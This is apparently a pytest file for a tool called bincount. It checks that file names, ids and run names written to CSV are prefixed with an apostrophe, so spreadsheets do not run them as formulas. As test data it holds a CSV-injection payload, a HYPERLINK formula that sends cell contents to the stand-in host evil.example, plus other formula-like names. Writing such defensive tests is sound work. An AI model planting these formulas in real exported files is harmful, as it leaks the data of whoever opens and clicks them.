"""CSV cells that hold names are never formulas (issue 24, item 10).

A spreadsheet runs a cell starting with ``=``, ``+``, ``-``, ``@``, TAB or CR as a formula:
``=HYPERLINK(...)`` sends data elsewhere when clicked. File names, S3 keys, ids and run names are
written by whoever could write the folder or bucket, so every CSV bincount writes passes its name
cells through :func:`bincount.text.csv_cell`, which prefixes such a cell with ``'`` (OWASP's advice);
numbers, negative ones included, are written as they are. Each test reads the file back with
:mod:`csv` and checks the exact cells.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
import pytest
from conftest import write_tiny_bundle
from PIL import Image

from bincount import cli
from bincount.compare.render import Section, to_csv
from bincount.metrics import read_predictions_csv, write_predictions_csv
from bincount.text import csv_cell

HYPERLINK = '=HYPERLINK("http:evil.example?"&A1,"click")'
# file name -> the cell bincount must write for it
NAMES = {
    f"{HYPERLINK}.jpg": f"'{HYPERLINK}.jpg",
    "@SUM(1).png": "'@SUM(1).png",
    "+1.jpg": "'+1.jpg",
    "-x.jpg": "'-x.jpg",
    "\tcmd.png": "'\tcmd.png",
    "plain.jpg": "plain.jpg",
    "a=b.jpg": "a=b.jpg",
}


@pytest.mark.parametrize(("value", "cell"), [
    *NAMES.items(),
    ("\rcmd.png", "cmd.png"), ("a\rb,c", "ab,c"), ("=1+1", "'=1+1"), ("-", "'-"), ("-1+2", "'-1+2"), ("@", "'@"),
    ("-0.25", "-0.25"), ("+1", "+1"), ("-1e5", "-1e5"), ("1e-5", "1e-5"), (".5", ".5"), ("00042", "00042"), ("", ""),
])
def test_csv_cell_prefixes_what_a_spreadsheet_would_run(value, cell):
    assert csv_cell(value) == cell


def test_predict_writes_formula_file_names_as_text(tmp_path, monkeypatch, capsys):
    bundle = write_tiny_bundle(tmp_path / "model")
    folder = tmp_path / "imgs"
    folder.mkdir()
    for i, name in enumerate(NAMES):
        Image.new("RGB", (40, 30), (30 * i, 255 - 30 * i, 90)).save(folder / name, format="PNG")
    monkeypatch.chdir(folder)  # "." as the input: the CSV's path column holds the bare file names
    out = tmp_path / "p.csv"
    status = cli.main(["predict", str(bundle), ".", "-o", str(out), "--num-workers", "0", "--no-progress"])
    assert status == 0, capsys.readouterr().err
    with open(out, newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0][:2] == ["path", "pred_count"]
    assert sorted(r[0] for r in rows[1:]) == sorted(NAMES.values())
    for row in rows[1:]:  # the numbers are still numbers
        assert int(row[1]) in range(1, 6) and all(0 <= float(x) <= 5 for x in row[2:])


def test_a_runs_predictions_csv_writes_formula_ids_as_text(tmp_path):
    path = tmp_path / "predictions.csv"
    write_predictions_csv(path, ["=1+1", "00042", "@x"], [1, 2, 3], [1, 2, 2], np.full((3, 2), 0.5), min_count=1)
    assert path.read_text().splitlines() == [
        "id,true_count,pred_count,prob_1,prob_2",
        "'=1+1,1,1,0.500000,0.500000",
        "00042,2,2,0.500000,0.500000",
        "'@x,3,2,0.500000,0.500000",
    ]
    assert read_predictions_csv(path)["ids"] == ["'=1+1", "00042", "'@x"]


def test_compare_and_runs_csv_export_neutralises_names_not_numbers():
    section = Section("runs", ["run", "=cmd()", "delta"],
                      [["@evil", "+note=x", "-0.0123"], ["-x", "—", "+1.5e-3"], ["plain", "00042", "0.5"]])
    rows = list(csv.reader(io.StringIO(to_csv(section))))
    assert rows == [["run", "'=cmd()", "delta"],
                    ["'@evil", "'+note=x", "-0.0123"],
                    ["'-x", "", "+1.5e-3"],
                    ["plain", "00042", "0.5"]]


def test_the_cells_survive_a_round_trip_as_typed(tmp_path):
    """What a reader sees after the quote: the name as it was, nothing dropped or escaped besides."""
    path = Path(tmp_path / "t.csv")
    with open(path, "w", newline="") as f:
        csv.writer(f).writerows([[csv_cell(n)] for n in NAMES])
    with open(path, newline="") as f:
        back = [r[0] for r in csv.reader(f)]
    assert [b[1:] if b.startswith("'") else b for b in back] == list(NAMES)
